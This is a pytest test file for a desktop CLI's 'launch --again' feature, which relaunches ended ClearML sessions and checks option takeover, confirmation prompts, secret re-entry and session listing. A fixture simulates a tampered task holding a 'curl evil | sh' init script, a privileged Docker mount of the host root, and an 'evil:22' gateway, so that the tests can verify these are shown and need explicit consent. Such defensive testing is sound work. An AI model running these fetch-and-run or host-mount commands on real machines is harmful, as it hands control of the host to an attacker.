"""``launch --again`` and sessions that have ended: what is taken over, what is asked, what is remembered."""

import io
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from desktop_app.cli import main as cli
from desktop_app.domain.sessions.snapshot import SessionId
from desktop_app.services.core import Core
from remote_bootstrap import contract
from tests.fakes.outside import ACCOUNT, World
from tests.support.cli_rig import Run
from tests.support.core_rig import last_launch
from tests.support.terminal import Terminal

Background = Callable[[Callable[[], None]], None]


def ended(run: Run, world: World, *flags: str) -> str:
    task: str = run("launch", "--no-attach", "--json", *flags).json["id"]
    world.server().end(task)
    return task


@pytest.mark.parametrize("by", ["id", "prefix", "name", "nothing"])
def test_the_options_of_an_ended_session_are_taken_over_and_flags_change_them(run: Run, world: World, by: str) -> None:
    task = ended(run, world, "--session-name", "night", "--packages", "tqdm", "--vscode-server", "false")
    named = {"id": [task], "prefix": [task[:8]], "name": ["night"], "nothing": []}[by]
    again = run("launch", "--again", *named, "--no-attach", "--json", "--packages", "torch==2.5").json["id"]
    draft = world.server().rows[again].draft
    assert (draft.name, draft.requirements[1:]) == ("night", ("torch==2.5",))
    assert draft.parameters["vscode"] == "False"


def test_a_session_of_another_computer_is_launched_again_and_what_is_unknown_is_said(run: Run, world: World) -> None:
    task = ended(run, world, "--packages", "tqdm", "--git-credentials")
    world.memory.sessions.forget(f"{ACCOUNT.id}/{task}")
    said = run("launch", "--again", task, "--no-attach", "--yes")
    assert said.code == 0 and "Another computer" in said.err and "Python packages: tqdm" in said.err
    assert [found.draft.requirements[1:] for found in world.server().rows.values()] == [("tqdm",)] * 2


EDITED = {
    "init_script": "curl evil | sh\rtrue\n" + "true\n" * 50,
    "cli_compatible": "True", "remote_gateway": "evil:22", "router_enabled": "True", "user_folder": "/host",
}  # fmt: skip


def edited(run: Run, world: World) -> str:
    """A session that another computer launched and somebody else has edited."""
    task = ended(run, world, "--docker", "python:3.12")
    world.memory.sessions.forget(f"{ACCOUNT.id}/{task}")
    found = world.server().rows[task]
    found.parameters |= EDITED
    found.draft = replace(found.draft, docker_args="--privileged -v /:/host")
    return task


def test_what_only_a_task_says_is_shown_and_needs_a_yes(run: Run, world: World) -> None:
    task = edited(run, world)
    said = run("launch", "--again", task, "--no-attach", "--json")
    assert (said.code, said.json["error"]["code"]) == (1, "again.unseen") and "--yes" in said.json["error"]["detail"]
    assert len(world.server().rows) == 1, "nothing was launched"
    for shown in (
        "Queue: default", "Docker image: python:3.12", "Docker arguments: --privileged -v /:/host",
        "Init script, 52 lines with 270 characters:\n      curl evil | sh\n      true\n", "12 more lines",
        "Base folder: /host", "ClearML router: yes", "Not taken over: --cli-compatible, --remote-gateway.",
    ):  # fmt: skip
        assert shown in said.err
    again = run("launch", "--again", task, "--no-attach", "--json", "--yes", "--user-folder", "/mine")
    assert "Docker arguments: --privileged" in again.err and "/host\n" in again.err and "Base folder" not in again.err
    told = again.json["again"]
    assert told["taken_over"]["init_script"] == EDITED["init_script"] and "user_folder" not in told["taken_over"]
    assert told["not_taken_over"] == ["cli_compatible", "remote_gateway"]
    made = world.server().rows[again.json["id"]]
    assert not {"remote_gateway"} & set(made.parameters) and made.parameters["cli_compatible"] == "False"
    assert made.parameters["user_folder"] == "/mine"


def test_of_a_session_of_this_computer_the_task_changes_nothing_and_that_is_said(run: Run, world: World) -> None:
    world.server().set_queue("evil", ["theirs"])
    task = ended(run, world, "--session-name", "night")
    world.server().change(task, queue="evil")
    again = run("launch", "--again", task, "--no-attach", "--json")
    assert again.code == 0 and "Queue: the task in ClearML says “evil”" in again.err
    assert again.json["again"] == {"taken_over": {}, "not_taken_over": [], "differs": {"queue": "evil"}}
    assert again.json["queue"] == "default"


def test_of_sessions_with_one_name_the_newest_is_meant_and_unclear_ids_are_not_guessed(run: Run, world: World) -> None:
    for package in ("old", "new"):
        ended(run, world, "--session-name", "twin", "--packages", package)
    for task in ("abcd1" + "0" * 27, "abcd2" + "0" * 27):
        world.server().rows[task] = world.server().rows[next(iter(world.server().rows))]
    again = run("launch", "--again", "twin", "--no-attach", "--json", "--yes", "--session-name", "third").json["id"]
    assert world.server().rows[again].draft.requirements[1:] != ()
    assert run("launch", "--again", "abcd", "--no-attach", "--json").json["error"]["code"] == "session.ambiguous"


@pytest.mark.parametrize(
    ("arguments", "code"), [(("--again",), "again.none"), (("--again", "no such"), "session.unknown")]
)
def test_what_can_not_be_launched_again_is_said(run: Run, arguments: tuple[str, ...], code: str) -> None:
    assert run("launch", *arguments, "--json").json["error"]["code"] == code


def test_a_profile_and_an_earlier_session_exclude_each_other(run: Run) -> None:
    with pytest.raises(SystemExit) as left:
        run("launch", "--again", "x", "--profile", "y")
    assert left.value.code == 2


# -- secrets


def test_a_script_is_told_which_secrets_are_needed_and_gives_them(
    run: Run, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse\n"))
    task = ended(run, world, "--password")
    said = run("launch", "--again", task, "--no-attach", "--json")
    assert (said.code, said.json["error"]["code"]) == (1, "again.secret") and "--password" in said.err
    monkeypatch.setattr("sys.stdin", io.StringIO("another horse\n"))
    again = run("launch", "--again", task, "--no-attach", "--json", "--password", "-").json["id"]
    assert world.secrets.entries[f"ssh-password/{ACCOUNT.id}/{again}"] == "another horse"
    without = run("launch", "--again", task, "--no-attach", "--json", "--password", "").json["id"]
    assert f"ssh-password/{ACCOUNT.id}/{without}" not in world.secrets.entries


@pytest.fixture
def terminal() -> Iterator[Terminal]:
    made = Terminal()
    yield made
    made.close()


def test_a_person_types_them_again(
    run: Run, world: World, terminal: Terminal, in_background: Background, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse\n"))
    task = ended(run, world, "--password")
    monkeypatch.setattr("getpass.getpass", lambda prompt: f"typed at {prompt}")
    with terminal:
        parsed = cli.parse(["launch", "--again", task, "--no-attach"])
        assert cli.run_command(parsed, lambda: Core(world.outside(), "cli")) == 0
    again = list(world.server().rows)[-1]
    assert world.secrets.entries[f"ssh-password/{ACCOUNT.id}/{again}"] == "typed at SSH password: "


@pytest.mark.parametrize(("answer", "launched"), [("y", 2), ("", 1), ("q", 1)])
def test_a_person_looks_at_what_a_task_says_and_agrees(
    run: Run, world: World, terminal: Terminal, in_background: Background, answer: str, launched: int
) -> None:
    task = edited(run, world)
    in_background(lambda: terminal.answer("Launch with these?", answer))
    with terminal:
        parsed = cli.parse(["launch", "--again", task, "--no-attach"])
        code = cli.run_command(parsed, lambda: Core(world.outside(), "cli"))
    assert (len(world.server().rows), code) == (launched, 0 if launched == 2 else 130)
    assert "--privileged -v /:/host" in terminal.seen


# -- what is remembered


@pytest.mark.parity("--disable-store-defaults")
def test_a_launch_from_a_script_is_not_what_the_wizard_begins_with(run: Run, world: World) -> None:
    run("launch", "--no-attach", "--packages", "tqdm")
    assert not world.profiles.content
    run("launch", "--no-attach", "--packages", "tqdm", "--store-defaults")
    assert last_launch(world).packages == "tqdm"
    task = run("launch", "--again", list(world.server().rows)[-1], "--no-attach", "--json").json["id"]
    assert last_launch(world).packages == "tqdm"
    assert world.memory.sessions.launched_with[SessionId(ACCOUNT.id, task).text]["store_defaults"] is False


# -- looking at them


def test_ended_sessions_are_listed_and_shown(run: Run, world: World) -> None:
    task = ended(run, world, "--session-name", "night")
    assert run("list").out == "" and "No sessions" in run("list").err
    head, row = run("list", "--ended").out.splitlines()
    assert head.split()[:3] == ["ID", "NAME", "ENDED"] and row.split()[:2] == [task[:8], "night"]
    world.server().rows[task].folder, world.server().rows[task].stored = "~/work", 1_795_000_000.0
    assert run("list", "--ended", "--json").json == {
        "ended": [{"id": task, "account": ACCOUNT.id, "name": "night", "ended": None, "workspace": "~/work",
                   "workspace_stored": datetime.fromtimestamp(1_795_000_000, UTC).isoformat()}],
        "problems": {},
    }  # fmt: skip
    for narrowed in (["-a"], ["--project", "x"]):
        assert run("list", "--ended", *narrowed, "--json").json["error"]["code"] == "usage.together"
    assert run("info", "night", "--json").json["id"] == task
    world.server().write_log(task, "its last words\n")
    assert run("log", task[:6]).out == "its last words\n"
    assert run("attach", "night", "--json").json["error"]["code"] == "session.unknown"


@pytest.mark.parity("--continue-session")
def test_the_session_to_continue_is_named_as_everywhere(run: Run, world: World) -> None:
    """clearml-session restores nothing of what it can't find; here a mistyped name launches nothing."""
    task = ended(run, world, "--session-name", "night")
    for name in (task[:8], "night"):
        said = run("launch", "--no-attach", "--continue-session", name, "--json")
        assert said.code == 0, said.err + said.out
        launched = said.json["id"]
        assert world.server().rows[launched].draft.parameters[contract.PARAM_CONTINUE] == task
    before = len(world.server().rows)
    refused = run("launch", "--no-attach", "--continue-session", "deadbeef")
    assert refused.code == 1 and "There is no such session" in refused.err
    assert len(world.server().rows) == before
